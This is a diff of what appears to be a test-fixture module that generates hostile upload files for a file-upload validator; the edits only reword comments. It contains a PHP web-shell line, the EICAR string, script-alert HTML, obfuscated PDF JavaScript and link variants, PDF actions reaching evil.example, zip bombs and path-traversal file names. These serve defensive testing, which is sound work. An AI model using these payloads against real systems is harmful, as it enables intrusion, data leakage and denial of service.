@@ -1,4 +1,4 @@
-/** Files that a stolen account would upload. None of them harms anybody who runs the tests. */
+/** Files that someone with a stolen account might upload. They are harmless to anyone who runs the tests. */
 import { constants, crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
 import { FILE_KINDS, type FileKind } from '#contract/file-kinds.ts'
@@ -17,13 +17,13 @@ import {
 } from './files-made.ts'
 
 export type HostileFile = {
-  /** As a form would send it. */
+  /** The file name as a form would send it. */
   name: string
   about: string
   bytes: Buffer
-  /** `clean`: harmless once it is re-encoded or renamed, and kept with the right type. */
+  /** `clean`: harmless once it is re-encoded or renamed, and stored with the right type. */
   expect: 'refused' | 'clean'
-  /** What must not be found in the file that is kept. */
+  /** Must not occur in the stored file. */
   payload?: Buffer
   /** See infectedFiles. */
   virus?: true
@@ -35,7 +35,7 @@ type Row = [name: string, about: string, bytes: Buffer | string, payload?: Buffe
 const KINDS = Object.keys(FILE_KINDS) as FileKind[]
 const MB = 1024 * 1024
 
-// In two pieces, so that no scanner takes this file for an infected one.
+// Split in two, so that no scanner takes this source file for an infected one.
 export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
 const PHP = '<?php system($_GET["c"]); ?>'
 const HTML = '<!doctype html><script>alert(document.domain)</script>'
@@ -86,7 +86,7 @@ function clean(rows: Row[]): HostileFile[] {
   }))
 }
 
-/** Nothing but a virus scanner can tell. */
+/** Only a virus scanner can detect these. */
 export function infectedFiles(): HostileFile[] {
   const rows: Row[] = [
     ['eicar.csv', 'EICAR as a table', EICAR],
@@ -143,7 +143,7 @@ function foreignContents(): Row[] {
   )
 }
 
-/** In a table it is text like any other; see infectedFiles. */
+/** In a table it is ordinary text; see infectedFiles. */
 function eicarFiles(): Row[] {
   const kinds = KINDS.filter((kind) => kind !== 'csv')
   const named = kinds.map((kind): Row => [`eicar.${endingOf(kind)}`, `EICAR under the name of ${kind}`, EICAR])
@@ -179,7 +179,7 @@ function emptyAndCut(good: Parts): Row[] {
   return [...cut, ...empty, ...zeros, ...spaces]
 }
 
-/** Only the first bytes are right. */
+/** Only the first bytes match the type. */
 function broken(good: Parts): Row[] {
   return KINDS.filter((kind) => kind !== 'csv').flatMap((kind): Row[] => {
     const bytes = good[kind]
@@ -222,7 +222,7 @@ function polyglots(good: Parts): Row[] {
   ]
 }
 
-/** The end record of a zip may have a comment of any bytes: the end of a PDF, say. */
+/** The end record of a zip may have a comment of arbitrary bytes, such as the end of a PDF. */
 function pdfInZipComment(pdf: Buffer): Buffer {
   const end = Buffer.from('\n%%EOF\n')
   const zip = zipOf([])
@@ -278,7 +278,7 @@ function hostilePdfs(good: Parts): Row[] {
     ['js-nul.pdf', 'name with a NUL behind', aPdfWith({ 4: '<< /S /JavaScript#00x >>' })],
     ['js-comment.pdf', 'comments between', aPdfWith({ 4: '<<%x\n/S%(\n/JavaScript%<\n/JS%)\n(x)>>' })],
     ['js-tight.pdf', 'no white space', aPdfWith({ 4: '<</S/JavaScript/JS(x)>>' })],
-    ['js-indirect.pdf', 'the name is an object of its own', aPdfWith({ 4: '<< /S 6 0 R >>', 6: '/JavaScript' })],
+    ['js-indirect.pdf', 'the name is a separate object', aPdfWith({ 4: '<< /S 6 0 R >>', 6: '/JavaScript' })],
     ['js-keyword.pdf', 'endobj inside a dictionary', aPdfWith({ 4: `<< /A endobj /S /JavaScript /JS (x) >>` })],
     ['js-odd.pdf', 'a key without value before it', aPdfWith({ 4: '<< /A >> endobj /S /JavaScript >>' })],
     ['js-string.pdf', 'object inside a string', aPdfWith({ 4: `( 9 0 obj ${ALERT} endobj )` })],
@@ -302,7 +302,7 @@ function hostilePdfs(good: Parts): Row[] {
     ['js-hidden9.pdf', 'not deflated', aPdfWith({ 4: plainStream('/ObjStm', ALERT) })],
     ['js-lzw.pdf', 'a filter that we do not undo', aPdfWith({ 4: filtered('/LZWDecode') })],
     ['js-hex.pdf', 'hexadecimal in deflate', aPdfWith({ 4: filtered('[/FlateDecode /ASCIIHexDecode]') })],
-    ['js-filter.pdf', 'the filter is an object of its own', aPdfWith({ 4: filtered('6 0 R'), 6: '/FlateDecode' })],
+    ['js-filter.pdf', 'the filter is a separate object', aPdfWith({ 4: filtered('6 0 R'), 6: '/FlateDecode' })],
     [
       'js-predictor.pdf',
       'with a predictor',
@@ -359,7 +359,7 @@ const link = (uri: string) => annotated(`/A << /S /URI /URI ${uri} >>`)
 const REMOTE = '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'
 const SUBMIT = '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Fields [] >>'
 
-/** PDFs that fetch something, send something or lead somewhere else than to a page. */
+/** PDFs that fetch something, send something or link to something other than a page. */
 export function pdfsThatReachOut(good: Parts): Row[] {
   const hidden = (...objects: string[]) => aPdfWith({ 4: objectStream(objects) })
   const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`
@@ -425,7 +425,7 @@ export function pdfsThatReachOut(good: Parts): Row[] {
     ['link-octal.pdf', 'in octal digits', link(octal(script))],
     ['link-utf16.pdf', 'in UTF-16', link(utf16(script))],
     ['link-utf16le.pdf', 'in UTF-16, the other way round', link(utf16le(script))],
-    ['link-utf8.pdf', 'with the mark of UTF-8', link(`(\xef\xbb\xbf${script})`)],
+    ['link-utf8.pdf', 'with the byte order mark of UTF-8', link(`(\xef\xbb\xbf${script})`)],
     ['link-broken-line.pdf', 'over two lines', link('(java\\\nscript:alert\\(1\\))')],
     ['link-lines.pdf', 'line ends and tabs inside', link('(\\n java\\t\\r\nscript\\n:alert\\(1\\))')],
     ['link-control.pdf', 'control characters before', link('(\\001\\037javascript:1)')],
@@ -444,7 +444,7 @@ export function pdfsThatReachOut(good: Parts): Row[] {
     ['link-twice.pdf', 'two addresses', annotated(`/A << /S /URI /URI (https://x.example/) /URI (${script}) >>`)],
     ['link-comment.pdf', 'a comment between', link(`%x\n(${script})`)],
     ['link-key.pdf', 'the key spelled with #', annotated(`/A << /S /URI /U#52I (${script}) >>`)],
-    ['link-object.pdf', 'an object of its own', aPdfWith({ 4: '<< /S /URI /URI 6 0 R >>', 6: `(${script})` })],
+    ['link-object.pdf', 'a separate object', aPdfWith({ 4: '<< /S /URI /URI 6 0 R >>', 6: `(${script})` })],
     [
       'link-object-hidden.pdf',
       'and hidden',
@@ -500,7 +500,7 @@ function bombInPieces(): Buffer {
   return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...Array.from({ length: 10 }, () => stream)])
 }
 
-/** Encrypted with a user's password (40 bits RC4): nobody can open it without. */
+/** Encrypted with a user password (40-bit RC4): it can't be opened without it. */
 function protectedPdf(): Buffer {
   const key = 'a'.repeat(64)
   const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -1 >> /ID [<00> <00>]`
@@ -514,7 +514,7 @@ function protectedPdf(): Buffer {
   )
 }
 
-/** Raw deflate that unpacks to this many MB of zeros: after a full flush, the same bytes mean the same again. */
+/** Raw deflate that unpacks to this many MB of zeros: after a full flush the same compressed bytes can be repeated. */
 function zeroBomb(megabytes: number): Buffer {
   const one = deflateRawSync(Buffer.alloc(MB), { finishFlush: constants.Z_FULL_FLUSH })
   return Buffer.concat([...Array.from({ length: megabytes }, () => one), deflateRawSync(Buffer.alloc(0))])
@@ -549,7 +549,7 @@ function pngOf({ width, height, bits, transparent, interlaced }: PngHeader, pixe
   ])
 }
 
-/** A JPEG whose frame header says another size. */
+/** A JPEG whose frame header states another size. */
 function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
   const claiming = Buffer.from(jpeg)
   const frame = claiming.indexOf(Buffer.from([0xff, 0xc0]))
@@ -558,7 +558,7 @@ function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
   return claiming
 }
 
-/** A lossless WebP of which there is only the header: 14 bits for each side. */
+/** A lossless WebP with only a header: 14 bits for each side. */
 function webpClaiming(width: number, height: number, transparent = 0): Buffer {
   const header = Buffer.alloc(16)
   header[0] = 0x2f
@@ -566,7 +566,7 @@ function webpClaiming(width: number, height: number, transparent = 0): Buffer {
   return riff([['VP8L', header]])
 }
 
-/** Says one size outside and another inside. */
+/** States one size outside and another inside. */
 function webpOnCanvas(width: number, height: number): Buffer {
   const canvas = Buffer.alloc(10)
   canvas.writeUIntLE(width - 1, 4, 3)
@@ -591,7 +591,7 @@ function riff(chunks: [string, Buffer][]): Buffer {
   return Buffer.concat([head, all])
 }
 
-/** Small files that are whole and right, and take far more memory or time than they look like. */
+/** Small, valid files that take far more memory or time than their size suggests. */
 async function largePictures(): Promise<Row[]> {
   const zlib = (bytes: number) => {
     const packed = Buffer.concat([Buffer.from([0x78, 0x9c]), zeroBomb(Math.floor(bytes / MB)).subarray(0, -2)])
@@ -719,11 +719,11 @@ async function hostileVideos(good: Parts): Promise<Row[]> {
   ]
 }
 
-/** Its name is longer; the lengths before it are made to fit. */
+/** Replaces the document type; "matroska" is longer than "webm", so the rest must be filled. */
 function saidToBeWebm(matroska: Buffer): Buffer {
   const at = matroska.indexOf(Buffer.from('\x42\x82\x88matroska', 'latin1'))
   const changed = Buffer.from(matroska)
-  // A Void element of two bytes and its content takes the place that is left.
+  // A Void element of two bytes and its content fills the remaining space.
   changed.write('\x42\x82\x84webm\xec\x82\0\0', at, 'latin1')
   return changed
 }
@@ -882,7 +882,7 @@ function namesWithoutKind(good: Parts): Row[] {
   return [...names, ...more].map((name) => [name, `PDF under the name ${JSON.stringify(name)}`, good.pdf])
 }
 
-/** Files that are what they should be; the name is nobody's path. */
+/** Files with the right content; the name must never be used as a path. */
 function evilNames(good: Parts): Row[] {
   const names = [
     '../../etc/passwd.pdf',
